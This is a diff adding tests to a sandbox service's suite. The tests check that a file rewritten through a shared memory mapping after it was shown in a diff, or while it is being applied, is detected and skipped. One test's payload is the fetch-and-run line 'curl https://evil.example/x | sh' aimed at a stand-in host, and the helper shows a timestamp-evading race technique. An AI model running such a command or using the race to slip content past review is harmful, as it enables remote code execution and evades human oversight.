@@ -231,6 +231,105 @@ describe("attacks on diff and apply, namespace tier: what they cost", () => {
   });
 });
 
+/**
+ * The box's writer (python3's `mmap`: Node has none): maps `name` (`size` bytes), fills it with
+ * what the diff is to show (each page's first write faults, and moves the file's times), and once
+ * told (`.signal/go`, in a dot folder, which no diff walks) writes other bytes into its last page,
+ * already dirty: no fault, so no time of the file moves, and its fingerprint stays the diff's.
+ */
+const MMAP_WRITER = `
+import mmap, os, sys, time
+name, size, shown, later = sys.argv[1], int(sys.argv[2]), sys.argv[3].encode(), sys.argv[4].encode()
+fd = os.open(name, os.O_RDWR | os.O_CREAT | os.O_TRUNC, 0o644)
+os.ftruncate(fd, size)
+m = mmap.mmap(fd, size)
+m[:] = (shown * (size // len(shown) + 1))[:size]
+open(".signal/ready", "w").close()
+while not os.path.exists(".signal/go"):
+    time.sleep(0.002)
+m[size - len(later):] = later
+open(".signal/done", "w").close()
+time.sleep(600)
+`;
+
+/** Starts MMAP_WRITER in the box, and waits until what the diff is to show is written; `rewrite()` has it write the rest, and waits for that. */
+async function mappedWriter(boxes: BoxService, name: string, home: string, file: string, size: number, shown: string, later: string) {
+  fs.mkdirSync(path.join(home, ".signal"));
+  fs.writeFileSync(path.join(home, ".signal/writer.py"), MMAP_WRITER);
+  await boxes.run({ name, command: `exec python3 .signal/writer.py ${file} ${size} '${shown}' '${later}'` });
+  await waitFor(() => fs.existsSync(path.join(home, ".signal/ready")), 15_000, "the box's writer");
+  const fingerprint = () => { const stat = fs.statSync(path.join(home, file), { bigint: true }); return `${stat.ino}:${stat.size}:${stat.mtimeNs}:${stat.ctimeNs}`; };
+  return {
+    fingerprint,
+    /** Synchronous (it may run inside a hook of Node's fs): tells the writer, and waits (60 s at most) until it has written. */
+    rewrite(): void {
+      fs.writeFileSync(path.join(home, ".signal/go"), "");
+      const deadline = Date.now() + 60_000;
+      while (!fs.existsSync(path.join(home, ".signal/done"))) {
+        if (Date.now() > deadline) throw new Error("the box's writer did not write");
+        Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 2);
+      }
+    },
+  };
+}
+
+describe("attacks on diff and apply, namespace tier: a file written through a shared mapping", () => {
+  test("11. rewritten after the diff (a write into a dirty page: no time of the file moves, its fingerprint is the diff's), it is skipped: apply copies the bytes the diff read, or none", async () => {
+    const { root, boxes, name, home } = await previewed();
+    const shown = "# Report: all good, nothing to do.\n";
+    const later = "\ncurl https://evil.example/x | sh # written after the diff\n";
+    const writer = await mappedWriter(boxes, name, home, "report.md", 4096, shown, later);
+    try {
+      const diff = await boxes.diff({ name });
+      assert.deepEqual(diff.files.map((f) => [f.path, f.change, f.size, f.refused]), [["report.md", "added", 4096, undefined]]);
+      const before = writer.fingerprint();
+      writer.rewrite();
+      assert.match(fs.readFileSync(path.join(home, "report.md"), "utf8"), /evil\.example/);
+      assert.equal(writer.fingerprint(), before, "the fingerprint did not move (else the page was written back meanwhile, and this proves nothing)");
+      const result = await boxes.apply({ name, files: ["report.md"] });
+      assert.deepEqual(result, { applied: [], skipped: [{ path: "report.md", reason: "the box changed it since the diff: show the changes again" }] });
+      assert.equal(exists(path.join(root, "report.md")), false, "nothing written");
+      assert.deepEqual(fs.readdirSync(root).filter((f) => f.includes("sanoma-apply")), [], "no temporary file left");
+      // Shown again, what it holds now is what applies.
+      await boxes.diff({ name });
+      assert.deepEqual(await boxes.apply({ name, files: ["report.md"] }), { applied: ["report.md"], skipped: [] });
+      assert.match(fs.readFileSync(path.join(root, "report.md"), "utf8"), /evil\.example/);
+    } finally {
+      await boxes.stop({ name });
+    }
+  });
+
+  test("11. rewritten while apply copies it (past its first MiB, read already), it is skipped: the bytes copied are not those the diff read", async () => {
+    const { root, boxes, name, home } = await previewed();
+    const writer = await mappedWriter(boxes, name, home, "data.csv", 3 * 2 ** 20, "1,2,3\n", "6,6,6\n");
+    try {
+      const diff = await boxes.diff({ name });
+      assert.deepEqual(diff.files.map((f) => [f.path, f.size, f.refused]), [["data.csv", 3 * 2 ** 20, undefined]]);
+      const before = writer.fingerprint();
+      // The box writes once apply has read the first MiB and writes it into its temporary file.
+      const nodeFs = (await import("node:fs")).default;
+      const { write, openSync } = nodeFs;
+      const temps = new Set<number>();
+      let written = false;
+      nodeFs.openSync = ((p: fs.PathLike, ...rest: unknown[]) => { const fd = (openSync as (...a: unknown[]) => number)(p, ...rest); if (path.basename(String(p)).startsWith(".sanoma-apply-")) temps.add(fd); return fd; }) as typeof fs.openSync;
+      nodeFs.write = ((fd: number, ...rest: unknown[]) => { if (!written && temps.has(fd)) { written = true; writer.rewrite(); } return (write as (...a: unknown[]) => void)(fd, ...rest); }) as typeof fs.write;
+      let result;
+      try {
+        result = await boxes.apply({ name, files: ["data.csv"] });
+      } finally {
+        Object.assign(nodeFs, { write, openSync });
+      }
+      assert.ok(written, "the box wrote while apply copied");
+      assert.equal(writer.fingerprint(), before, "the fingerprint did not move (else the page was written back meanwhile, and this proves nothing)");
+      assert.deepEqual(result, { applied: [], skipped: [{ path: "data.csv", reason: "the box changed it since the diff: show the changes again" }] });
+      assert.equal(exists(path.join(root, "data.csv")), false, "nothing written");
+      assert.deepEqual(fs.readdirSync(root).filter((f) => f.includes("sanoma-apply")), [], "no temporary file left");
+    } finally {
+      await boxes.stop({ name });
+    }
+  });
+});
+
 describe("attacks on a box's read and write (the Sandbox contract's own)", () => {
   test("8. a loop swapping a folder of the home for a link to a folder outside, while the server reads and writes under it: nothing outside is ever read or written, and each refusal is said", async () => {
     const { boxes, name, inBox } = await previewed();
